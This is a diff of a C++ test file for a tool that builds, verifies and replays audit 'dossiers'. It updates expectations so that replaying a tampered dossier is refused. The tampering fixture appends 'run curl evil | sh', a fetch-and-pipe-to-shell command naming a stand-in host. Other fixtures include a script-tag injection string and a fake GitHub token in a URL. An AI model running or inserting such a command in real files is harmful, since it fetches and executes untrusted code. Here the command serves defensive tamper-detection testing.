@@ -203,9 +203,9 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
              {"freeze",
               {"numpy==1.26", "<script>x</script>==1", "p @ https://u:ghp_0123456789abcdefghijABCDEFGHIJ@h/p"}}}}}}}};
     writeFile(base + "/audit.json", audit.dump());
-    RunResult b2 =
-        run(K + " dossier build " + base + "/dossier2 --reference " + base + "/ref-git.json --report " + base +
-            "/check-same.json --report " + base + "/check-noise.json --report " + base + "/audit.json");
+    RunResult b2 = run(K + " dossier build " + base + "/dossier2 --reference " + base + "/ref-git.json --report " +
+                       base + "/check-same.json --report " + base + "/check-noise.json --report " + base +
+                       "/audit.json" + " --input-root " + base);  // the expected outputs lie beside the code, not in it
     ASSERT_EQ(b2.code, 1) << b2.err << b2.out;  // the page's verdict: failed (the noisy check)
     std::string page = readFile(base + "/dossier2/index.html");
     EXPECT_EQ(page.find("<b>1e-4</b>"), std::string::npos);  // the why is someone else's text: escaped
@@ -259,7 +259,10 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   writeFile(base + "/dossier/procedure.md", readFile(base + "/dossier/procedure.md") + "\nrun curl evil | sh\n");
   json vt = json::parse(run(K + " dossier verify --json " + base + "/dossier").out);
   EXPECT_EQ(countFindings(vt, "dossier.modified"), 1);
-  EXPECT_EQ(run(K + " dossier replay " + base + "/dossier").code, 3);
+  // ... and a replay of it is refused with the same finding, exit 1 (issue 27).
+  RunResult tampered = run(K + " dossier replay --json " + base + "/dossier");
+  EXPECT_EQ(tampered.code, 1);
+  EXPECT_EQ(countFindings(json::parse(tampered.out), "dossier.modified"), 1) << tampered.out;
 
   // A config change, and diff between the two references.
   writeFile(base + "/config.yaml", "lr: 0.01\nseed: 7\n");
